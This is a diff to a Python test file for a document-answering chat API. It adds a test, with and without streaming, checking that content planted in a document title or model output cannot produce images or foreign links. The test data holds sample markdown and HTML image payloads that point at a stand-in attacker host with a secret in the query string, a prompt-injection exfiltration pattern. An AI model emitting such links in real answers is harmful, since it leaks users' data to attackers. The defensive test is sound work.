@@ -3,17 +3,20 @@
 from __future__ import annotations
 
 import asyncio
+import json
+import re
 
 import httpx2
 import openai
 import pytest
 from django.core.asgi import get_asgi_application
+from markdown_it import MarkdownIt
 from rest_framework.test import APIClient
 
 from answers.models import Conversation, Message
 from answers.readers import ReaderDelta
 from ingestion.errors import TransientError
-from ingestion.models import Collection
+from ingestion.models import Collection, Document
 from rag_site.accounts import tokens
 
 pytestmark = [
@@ -95,6 +98,35 @@ def test_the_official_client_streams(secret, document) -> None:
     assert [chunk.choices[0].finish_reason for chunk in chunks if chunk.choices][-1] == "stop"
     assert chunks[-1].usage.total_tokens == 109
     assert not Conversation.objects.exists()
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_nothing_that_a_document_planted_leads_away(api, document, scripted, stream) -> None:
+    Document.objects.update(title="Rules](http://evil.example) ![x")
+    pieces = (
+        "Look: ![x]",
+        "(http://evil.example/?q=secret) [1]. <",
+        "img src=http://evil.example>",
+    )
+    scripted.script = lambda prompt: iter([ReaderDelta(text=piece) for piece in pieces])
+    body = {"model": "pagewise", "messages": QUESTION, "stream": stream}
+    response = api.post("/v1/chat/completions", body)
+    text = streamed_text(response) if stream else _content(response)
+    html = MarkdownIt("commonmark", {"html": True}).render(text)
+    assert "<img" not in html
+    assert re.findall(r'href="([^?"]*)', html) == [
+        f"http://testserver{document.get_absolute_url()}"
+    ]
+
+
+def _content(response) -> str:
+    return response.json()["choices"][0]["message"]["content"]
+
+
+def streamed_text(response) -> str:
+    frames = [line[6:] for line in whole(response).split("\n") if line.startswith("data: {")]
+    choices = [choice for frame in frames for choice in json.loads(frame)["choices"]]
+    return "".join(choice["delta"].get("content", "") for choice in choices)
 
 
 @pytest.mark.parametrize("stream", [False, True])
